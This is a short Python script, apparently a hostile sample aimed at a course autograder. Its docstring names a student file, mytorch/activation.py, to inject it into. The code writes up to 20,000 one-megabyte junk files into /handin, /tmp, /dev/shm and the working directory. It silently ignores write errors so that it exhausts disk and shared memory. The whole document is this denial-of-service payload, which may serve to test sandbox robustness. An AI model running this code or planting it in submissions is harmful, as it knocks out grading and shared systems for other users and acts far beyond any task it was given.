"""Fills the disk, in files of one megabyte.

Into: spring mytorch/activation.py
"""

import contextlib

for _number in range(20_000):
    for _folder in ("/handin", "/tmp", "/dev/shm", FOLDER, "."):
        with contextlib.suppress(OSError), open(f"{_folder}/fill-{_number}", "wb") as _file:
            _file.write(b"x" * 1_000_000)
